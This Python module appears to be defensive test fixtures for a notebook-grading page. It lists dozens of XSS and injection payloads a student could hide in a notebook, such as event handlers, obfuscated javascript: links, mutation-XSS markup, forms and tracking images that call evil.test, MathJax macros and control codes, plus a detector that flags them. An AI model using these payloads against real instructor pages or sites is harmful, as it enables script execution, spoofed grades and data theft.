"""What a student can put into a notebook so that an instructor's page acts on it, and what of it is in a page."""

from __future__ import annotations

import re
from collections import Counter
from typing import Any

from bleach._vendor import html5lib  # reads HTML as a browser does, which html.parser does not
from nbformat import NotebookNode, from_dict

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def words(source: str, **more: Any) -> dict[str, Any]:
    """A written answer."""
    marks = {"grade_id": "ch08-w1", "grade": True, "solution": True, "locked": False, "task": False, "points": 3}
    return {"cell_type": "markdown", "id": "w1", "metadata": {"nbgrader": marks}, "source": source} | more


def raw(source: str) -> dict[str, Any]:
    return {"cell_type": "raw", "id": "raw", "metadata": {}, "source": source}


def ran(*outputs: dict[str, Any], **more: Any) -> dict[str, Any]:
    """A code cell and what it left."""
    code = {"cell_type": "code", "id": "ran", "metadata": {}, "source": "answer()", "execution_count": 1}
    return code | {"outputs": list(outputs)} | more


def shows(data: dict[str, Any], metadata: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}} | more


def notebook(*cells: dict[str, Any], **metadata: Any) -> NotebookNode:
    found: NotebookNode = from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)})
    return found


ANSWERS = {
    "an event handler runs when a picture fails": "<img src=x onerror=probe()>",
    "an event handler runs when a drawing loads": "<svg onload=probe()></svg>",
    "an element that opens itself has a handler": "<details open ontoggle=probe()>x</details>",
    "a handler runs on a touch of the pointer": "<p onpointerenter=probe()>read me</p>",
    "a script closes the page's elements first": "</div></div></body><script>probe()</script>",
    "a script stands in a line of text": "so <script>probe()</script> it is",
    "a style sheet covers the page": "<style>body {display: none}</style>",
    "a frame holds a page with a script": '<iframe srcdoc="<script>parent.probe()</script>"></iframe>',
    "an address moves every later one": "<base href=//evil.test/>",
    "a refresh leaves the page": '<meta http-equiv=refresh content="0; url=//evil.test">',
    "a form sends the reader's grades": "<form action=//evil.test><input name=a autofocus><button>Next</button></form>",
    "an object loads a page": "<object data=//evil.test/a></object><embed src=//evil.test/b>",
    "a link runs a script": "<a href='javascript:probe()'>x</a>",
    "a link hides its script behind a tab": "<a href='java&#9;script:probe()'>x</a>",
    "a link hides its script behind references": "<a href='&#106;avascript&colon;probe()'>x</a>",
    "a link hides its script behind letter case": "<a href=' JaVaScRiPt:probe()'>x</a>",
    "a Markdown link runs a script": "[x](javascript:probe())",
    "a Markdown link runs a script, by reference": "[x]\n\n[x]: <java&#115;cript:probe()>",
    "a Markdown link runs an older script": "[x](vbscript:probe)",
    "a Markdown link opens a page of its own": "[x](data:text/html,<script>probe()</script>)",
    "nbconvert takes files/ from the address": "[x](files/javascript:probe())",
    "a link opens a file that was handed in": "[x](evil.html)",
    "a picture tells who reads, and when": "![x](https://evil.test/seen.png)",
    "a picture of the server's signs the reader out": "![x](/logout)",
    "a picture is read by its other addresses": f"<img src='data:image/png;base64,{PNG}' srcset='//evil.test/a 2x'>",
    "a comment ends earlier than it seems": "<!--><img src=x onerror=probe()>-->",
    "markup changes its meaning when it is read again": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=probe()&gt;'>"
    ),
    "text for browsers without scripts is read again": '<noscript><p title="</noscript><img src=x onerror=probe()>">',
    "a drawing ends inside an attribute": '<a title="<svg></svg><img src=x onerror=probe()>" href=//evil.test>x</a>',
    "a drawing holds HTML": "<svg><foreignObject><iframe src=//evil.test></iframe></foreignObject></svg>",
    "a diagram is no diagram": "```mermaid\n<img src=x onerror=probe()>\n```",
    "a class of the page covers it": "<div class='navbar navbar-fixed-top'>All marks given</div>",
    "an id of the page takes its field": "<p id=notebook>3</p>",
    "a style covers the page": "<div style='position: fixed; inset: 0; z-index: 9999'>x</div>",
    "a style hides its name behind references": "<div style='posi&#116;ion: fixed; inset: 0'>x</div>",
    "a style loads": "<p style='background: url(//evil.test/a)'>x</p>",
    "a style loads by another name": "<p style='background-image: image-set(\"//evil.test/a\" 1x)'>x</p>",
    "a formula is a link": r"$\href{javascript:probe()}{x}$",
    "a formula is a link, in parts": r"<p>$\hr<wbr>ef{javascript:probe()}{x}$</p>",
    "a formula is a link, by reference": r"<p>$\h&#114;ef{javascript:probe()}{x}$</p>",
    "a formula has the page's style": r"$$\style{position: fixed; font-size: 999px}{x}$$",
    "a formula has the page's class": r"\begin{equation}\class{navbar-fixed-top}{x}\end{equation}",
    "a formula loads what it names": r"$\require{enclose}\unicode[evil]{x41}$",
}
OUTPUTS = {
    "HTML runs a script": shows({"text/html": "<script>probe()</script>"}),
    "a script is an output": shows({"application/javascript": "probe()"}),
    "HTML is framed, where its script runs": shows(
        {"text/html": "<script>probe()</script>"}, {"text/html": {"isolated": True}}
    ),
    "Markdown runs a script": shows({"text/markdown": "<img src=x onerror=probe()>"}),
    "HTML of a result has a handler": shows({"text/html": "<b onclick=probe()>3</b>"}),
    "a widget brings its own script": shows(
        {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}}
    ),
    "a drawing is somewhere else": shows({"image/svg+xml": "<svg/>"}, svg_filename="//evil.test/a.svg"),
    "a picture is somewhere else": shows({"image/png": PNG}, {"filenames": {"image/png": "//evil.test/a.png"}}),
    "a picture's width is an attribute": shows({"image/png": PNG}, {"image/png": {"width": "1 onload=probe()"}}),
    "a photograph's height is an attribute": shows({"image/jpeg": PNG}, {"height": "1 onload=probe()"}),
    "a formula of an output is a link": shows({"text/latex": r"$\href{javascript:probe()}{x}$"}),
    "printed text holds control codes": {"output_type": "stream", "name": "stdout", "text": "\x1b]0;a\x07\x08\x00b"},
    "a result's text holds control codes": shows({"text/plain": "\x9b31m\x1bc"}),
    "a traceback holds control codes": {
        "output_type": "error", "ename": "E", "evalue": "", "traceback": ["\x1b]8;;//evil.test\x07x"],
    },
}  # fmt: skip
WIDGETS = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {}}, "version_major": 2}}
ATTACKS = {
    **{reason: notebook(words(answer)) for reason, answer in ANSWERS.items()},
    **{reason: notebook(ran(output), widgets=WIDGETS) for reason, output in OUTPUTS.items()},
    "raw text has a class of the page": notebook(raw("<div class='navbar navbar-fixed-top'>All marks given</div>")),
    "nbgrader's mark on a cell is HTML": notebook(
        ran(metadata={"nbgrader": {"grade_id": "<img src=x onerror=probe()>", "grade": True, "points": 1}})
    ),
}

NEVER = (
    *("script", "style", "iframe", "frame", "object", "embed", "applet", "base", "meta", "link", "form", "button"),
    *("input", "select", "textarea", "svg", "math", "template", "noscript", "video", "audio", "source", "dialog"),
)
PAGES_OWN = ("navbar", "navbar-fixed-top", "score", "comment", "modal")
STYLES = re.compile(r"(?i)position|url\(|image-set|z-index|inset|transform|&|\\|-\d")
MACROS = re.compile(r"\\(href|style|class|require|unicode)(?![a-zA-Z])")
CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def dangers(page: str) -> Counter[str]:
    """What in a page runs, loads, sends, covers or claims a name of the page's own, for a browser's reading of it."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    found, ids, text, deep = Counter[str](), Counter[str](), "", 0
    for token in html5lib.getTreeWalker("etree")(tree):
        kind, name = token["type"], token.get("name")
        if kind in ("Characters", "SpaceCharacters"):
            text += token["data"] if not deep else ""
        elif name not in ("wbr", None):  # MathJax reads over it
            found.update(f"formula with {macro}" for macro in MACROS.findall(text))
            text = ""
        if name in ("pre", "code", "script", "style"):
            deep += {"StartTag": 1, "EndTag": -1}.get(kind, 0)
        if kind in ("StartTag", "EmptyTag"):
            attributes = {key: value for (_, key), value in token["data"].items()}
            found.update(_of(name, attributes))
            ids.update([attributes["id"]] if "id" in attributes else [])
    found.update({f"id {name} again": count - 1 for name, count in ids.items() if not name.startswith("student-")})
    found.update(f"code {code!r}" for code in CONTROLS.findall(page))
    return found


def _of(element: str, attributes: dict[str, str]) -> list[str]:
    found = [element] if element in NEVER else []
    for name, value in attributes.items():
        address = re.sub(r"[\x00-\x20]", "", value).lower()
        if name.startswith("on") or name in ("srcdoc", "srcset", "action", "formaction", "autofocus", "http-equiv"):
            found.append(f"{element} {name}")
        elif (name == "href" and element != "link" and not re.match("https?://|mailto:|#", address)) or (
            name == "src" and not address.startswith("data:image/")
        ):
            found.append(f"{element} {name}={address}")
        elif name == "style" and STYLES.search(value):
            found.append(f"{element} {name}={value}")
        elif name == "class":
            found += [f"class {word}" for word in value.split() if word in PAGES_OWN]
    return found
